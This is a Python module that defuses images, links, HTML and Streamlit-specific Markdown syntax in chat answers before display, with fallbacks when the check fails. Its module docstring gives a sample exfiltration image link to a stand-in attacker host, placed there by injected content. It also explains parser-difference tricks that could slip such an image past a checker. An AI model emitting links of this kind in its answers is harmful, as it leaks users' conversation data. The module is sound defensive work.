"""Markdown made safe to show: nothing in a message makes the browser fetch or run anything.

An answer may carry what an injected document or message asked for, such as
`![](https://attacker.example/?d=<conversation data>)`: rendered as an image, the
browser would send that URL out by itself. So before any message is shown:

- images (inline `![alt](url)`, reference `![alt][ref]`) become text naming the
  image and its address: nothing is fetched;
- a link shows its target beside its text (`[docs](https://x)` reads
  "docs (`https://x`)"), and reference-style link definitions are shown as text;
- HTML tags are shown as text (`<img …>` is escaped), on top of Streamlit never
  rendering raw HTML unless asked to.

The check must read the text as the consumer does. `st.markdown` dedents and strips the
text on the server (`clean_text`: four spaces that made a code block for a checker are
gone before the browser parses it), so `safe_markdown` starts from the same text. And
Streamlit's frontend is not CommonMark: react-markdown with remark-gfm, remark-math,
remark-directive and remark-emoji, rehype-katex and Mermaid (as found in the installed
Streamlit's bundle) also reads `$…$` and `$$…$$` as math, `:name[…]{…}`
as a directive (colours, badges, help tooltips whose label is rendered again as
Markdown), `[^n]` as a footnote, a bare `www.…` or `https://…` as a link that runs to the
next space, and a ```` ```mermaid ```` block as a diagram (whose image nodes fetch their
address). Math, a directive's braces and a bare address can each begin before a
backtick and swallow it, so that what markdown-it reads as a code span is prose to
Streamlit, and an image "in code" renders. Therefore, outside code:

- every `$`, every `:` before a letter and every `[^` is escaped: no math, directive or
  footnote renders from a message (emoji shortcodes and `:material/…:` icons still do:
  Streamlit replaces those in the text after parsing);
- a bare address running into a code span is broken (`www\\.`, `https\\://`);
- a ```` ```mermaid ```` block is shown as code (its language becomes `text`).

Code blocks and inline code are otherwise left exactly as written (markdown-it-py finds
them). The result is parsed again with markdown-it-py (raw HTML enabled, stricter than
Streamlit) and judged as Streamlit would read it: no image, no HTML, no unescaped `$`,
`:name` or `[^` in prose, no bare address running into a code span, no Mermaid block. If
the text fails — built to make a code span start somewhere else than it seems, a table
cell split inside backticks — every line outside code blocks is escaped instead, inline
code included, and if even that fails, every ASCII punctuation character of every line
(cosmetic damage, never a fetch). Titles and other stored labels go through
`plain_label`, which escapes every ASCII punctuation character.

This is the first line. The second, for whatever a parser difference still lets through,
is the Content-Security-Policy on every response (`parley/app_pages/security_headers.py`): the
browser loads images, fonts, frames and connections from Parley itself only.
"""

from __future__ import annotations

import re
import textwrap
import time
from collections.abc import Callable, Sequence

from markdown_it import MarkdownIt
from markdown_it.token import Token

_PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
# Streamlit renders GitHub-flavoured Markdown: table cells split on `|` even inside
# backticks, so the check parses tables too. `text_join` is off so that an escaped
# character stays its own token (`text_special`): the check tells `\$` from `$`.
_CHECKER = (
    MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).disable("text_join")
)

# A code span opens and closes with backtick runs of the same length (CommonMark). Only
# spans on one line are kept as written, and an opener after a backslash (maybe escaped)
# is prose: when unsure, text is treated as prose and escaped, the safe side.
_INLINE_CODE = re.compile(r"(?<![`\\])(`+)(?!`)(?:[^\n]+?)(?<!`)\1(?!`)")
_IMAGE = (
    r"!\[(?P<alt>[^\]\n]*)\]\(\s*<?(?P<src>[^)\s>]*)>?"
    r"(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?\s*\)"
)
_LINK = (
    r"(?<![!\\])\[(?P<text>[^\]\n]+)\]\(\s*<?(?P<url>[^)\s>]+)>?"
    r"(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?\s*\)"
)
_IMAGE_OR_LINK = re.compile(f"{_IMAGE}|{_LINK}")
_IMAGE_OPENER = re.compile(r"!\[")
_DEFINITION = re.compile(r"^( {0,3})\[(?=[^\]\n]+\]:)", re.MULTILINE)
_TAG = re.compile(r"<(?=[A-Za-z/!?])")
_ASCII_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")

# Streamlit's dialect beyond markdown-it's, as it appears in the source: a math
# delimiter, a directive (`:` then a letter starts its name), a footnote.
_DIALECT = re.compile(r"\$|:(?=[A-Za-z])|\[(?=\^)")
_ESCAPED = re.compile(r"\\[!-/:-@\[-`{-~]")
# A bare address (GFM autolink literal) runs to the next space or `<`, backticks included.
_ADDRESS = re.compile(r"(?i)www\.|://")
_TRAILING_RUN = re.compile(r"[^\s<]*\Z")
_FENCE_INFO = re.compile(r"^(?P<lead>[^`~]*?(?:`{3,}|~{3,}))(?P<info>.*)$")
_DIAGRAM = "mermaid"  # Streamlit draws a fence whose language begins so; any naming it is code


class Pacer:
    """When a streaming answer is drawn again: its first text at once, then at most every
    `interval_s`. Each drawing parses the whole text so far (`safe_markdown`), sends it over
    the WebSocket and makes the browser lay it out: drawn at every word, a 150-word answer
    cost the server and the browser 150 of each, and ten people at once slowed everyone's
    stream (`python -m parley.bench.load`). Ten drawings a second still read as a stream."""

    def __init__(self, interval_s: float = 0.1, clock: Callable[[], float] = time.monotonic):
        self._interval_s = interval_s
        self._clock = clock
        self._last: float | None = None

    def due(self) -> bool:
        now = self._clock()
        if self._last is not None and now - self._last < self._interval_s:
            return False
        self._last = now
        return True


def safe_markdown(text: str) -> str:
    """`text` with images, hidden link targets, HTML and Streamlit's extra syntax defused;
    code untouched. Dedented and stripped first, as `st.markdown` does before its frontend
    parses anything (`clean_text`): what is judged is what is rendered."""
    text = textwrap.dedent(text).strip()
    if not text:
        return text
    careful = _careful(text)
    if _is_inert(careful):
        return careful
    conservative = _conservative(text)
    if _is_inert(conservative):
        return conservative
    return _escape_every_line(text)  # nothing left that any Markdown reads as syntax


WORD_JOINER = "\u2060"
_AUTOLINK = re.compile(r"(?i)(?:https?|ftp)(?=\\:)|www(?=\\\.)")


def plain_label(text: str) -> str:
    """`text` for a place Streamlit renders as Markdown (a heading, a caption, a button,
    expander or tab label, a table cell, an alert), with every ASCII punctuation character
    escaped and whitespace folded to single spaces: a title written from the conversation
    (by the model, or by an injection), a file or user name shows as the characters it is,
    never as an image, a link, math or a directive."""
    escaped = _ASCII_PUNCTUATION.sub(r"\\\1", " ".join(text.split()))
    # GFM's autolink literals are found in the text after escapes are read (remark-gfm
    # links `https://…` and `www.…` in any text node): an invisible word joiner after the
    # scheme or `www` keeps them plain text. (An e-mail address stays a mailto link.)
    return _AUTOLINK.sub("\\g<0>" + WORD_JOINER, escaped)


# --- the check -------------------------------------------------------------------------


def _is_inert(text: str) -> bool:
    """True when Streamlit's Markdown would find in `text` no image, no HTML, no math,
    directive or footnote, no address that swallows a code span and no Mermaid block."""
    env: dict[str, dict[str, object]] = {}
    tokens = _CHECKER.parse(text, env)
    if any(label.startswith("^") for label in env.get("references", {})):
        return False  # a footnote definition, read by markdown-it as a link definition
    for token in tokens:
        if token.type == "html_block":
            return False
        if token.type == "fence" and _DIAGRAM in token.info.lower():
            return False
        if token.type == "inline" and not _inline_is_inert(token.children or []):
            return False
    return True


def _inline_is_inert(children: Sequence[Token]) -> bool:
    prose: list[str] = []  # unescaped text; any other token is a boundary
    for index, child in enumerate(children):
        if child.type in ("image", "html_inline"):
            return False
        if child.type == "code_inline" and _address_runs_into(children[:index]):
            return False
        prose.append(child.content if child.type == "text" else "\n")
    return _DIALECT.search("".join(prose)) is None


def _address_runs_into(before: Sequence[Token]) -> bool:
    """True when a bare address ends where a code span begins: Streamlit would take the
    span's backtick into the address and read the span's text as prose."""
    run = ""
    for token in reversed(before):
        if token.type == "text":
            piece = token.content
        elif token.type == "text_special":  # an escape or entity: no address syntax
            piece = "\0" * len(token.content)
        elif token.type == "link_open":
            piece = "["
        elif token.type.endswith(("_open", "_close")) and token.markup:
            piece = token.markup  # emphasis and strikethrough delimiters
        else:
            break
        run = piece + run
        if re.search(r"[\s<]", piece):
            break
    return _ADDRESS.search(re.split(r"[\s<]", run)[-1]) is not None


# --- the careful rendering ---------------------------------------------------------------


def _code_lines(text: str) -> tuple[set[int], set[int]]:
    """Line numbers inside fenced or indented code blocks, and the opening lines of
    fenced blocks Streamlit would draw as diagrams."""
    lines: set[int] = set()
    diagrams: set[int] = set()
    for token in _PARSER.parse(text):
        if token.type in ("fence", "code_block") and token.map is not None:
            lines.update(range(token.map[0], token.map[1]))
            if token.type == "fence" and _DIAGRAM in token.info.lower():
                diagrams.add(token.map[0])
    return lines, diagrams


def _as_code(line: str) -> str:
    """A fence's opening line with its language replaced: shown as code, not drawn."""
    match = _FENCE_INFO.match(line)
    return f"{match['lead']}text" if match else line


def _dialect(text: str) -> str:
    """Escape `$`, `:` before a letter and `[^`, leaving what is escaped already."""
    out: list[str] = []
    last = 0
    for match in re.finditer(f"{_ESCAPED.pattern}|{_DIALECT.pattern}", text):
        out.append(text[last : match.start()])
        out.append(match[0] if match[0].startswith("\\") else f"\\{match[0]}")
        last = match.end()
    out.append(text[last:])
    return "".join(out)


def _break_addresses(text: str) -> str:
    """`www.` and `://` escaped, so no bare address starts there."""
    return re.sub(
        rf"{_ESCAPED.pattern}|(?i:www)\.|:(?=//)",
        lambda m: m[0] if m[0].startswith("\\") else f"{m[0][:-1]}\\{m[0][-1]}",
        text,
    )


def _escape_prose(text: str) -> str:
    text = _IMAGE_OPENER.sub(r"!\\[", text)  # reference-style images: shown as text
    text = _DEFINITION.sub(r"\1\\[", text)
    return _dialect(_TAG.sub("&lt;", text))


def _code_span(text: str) -> str:
    """`text` as an inline code span, whatever backticks it holds."""
    if not text:
        return "no address"
    fence = "`" * (1 + max((len(run) for run in re.findall("`+", text)), default=0))
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def _plain(segment: str, *, before_code: bool) -> str:
    """Make one stretch of markdown outside code safe."""
    pieces: list[str] = []
    last = 0
    for match in _IMAGE_OR_LINK.finditer(segment):
        pieces.append(_escape_prose(segment[last : match.start()]))
        if match["src"] is not None:
            alt = _escape_prose(match["alt"]) or "no description"
            pieces.append(f"[image not loaded: {alt}] ({_code_span(match['src'])})")
        else:
            text, url = match["text"], match["url"]
            shown = f"[{_escape_prose(text)}{_dialect(match[0][1 + len(text) :])}"
            pieces.append(shown if text.strip() == url else f"{shown} ({_code_span(url)})")
        last = match.end()
    pieces.append(_escape_prose(segment[last:]))
    plain = "".join(pieces)
    if not before_code:
        return plain
    run = _TRAILING_RUN.search(plain)
    assert run is not None  # it matches the empty string at the end
    return plain[: run.start()] + _break_addresses(run[0])


def _careful(text: str) -> str:
    code, diagrams = _code_lines(text)
    out: list[str] = []
    prose: list[str] = []

    def flush() -> None:
        if not prose:
            return
        block = "\n".join(prose)
        pieces: list[str] = []
        last = 0
        for match in _INLINE_CODE.finditer(block):
            pieces.append(_plain(block[last : match.start()], before_code=True))
            pieces.append(match[0])
            last = match.end()
        pieces.append(_plain(block[last:], before_code=False))
        out.append("".join(pieces))
        prose.clear()

    for number, line in enumerate(text.split("\n")):
        if number in code:
            flush()
            out.append(_as_code(line) if number in diagrams else line)
        else:
            prose.append(line)
    flush()
    return "\n".join(out)


# --- the fallbacks -----------------------------------------------------------------------


def _conservative(text: str) -> str:
    """Every line outside code blocks escaped, inline code included."""
    code, diagrams = _code_lines(text)
    lines = text.split("\n")
    return "\n".join(
        (_as_code(line) if n in diagrams else line)
        if n in code
        else _break_addresses(_dialect(_TAG.sub("&lt;", _IMAGE_OPENER.sub(r"!\\[", line))))
        for n, line in enumerate(lines)
    )


def _escape_every_line(text: str) -> str:
    """Every ASCII punctuation character escaped, code blocks included: no Markdown
    dialect finds any syntax left (in an indented code block the backslashes show)."""
    return "\n".join(_ASCII_PUNCTUATION.sub(r"\\\1", line) for line in text.split("\n"))


def highlighted(text: str, marks: Sequence[tuple[int, int]]) -> str:
    """`text` as `plain_label` makes it, with the (start, end) spans in `marks` in bold:
    a search result's snippet, the words it matched standing out."""
    parts: list[str] = []
    at = 0
    for start, end in sorted(marks):
        if start < at or end <= start:
            continue  # overlapping or empty: shown plain
        parts.append(_plain_part(text[at:start]))
        parts.append(f"**{plain_label(text[start:end])}**")
        at = end
    parts.append(_plain_part(text[at:]))
    return "".join(parts).strip()


def _plain_part(text: str) -> str:
    """A piece of a label: escaped, keeping one space where it began or ended with one."""
    if not text:
        return ""
    before = " " if text[0].isspace() else ""
    after = " " if text[-1].isspace() and text.strip() else ""
    return before + plain_label(text) + after


__all__ = ["highlighted", "plain_label", "safe_markdown"]
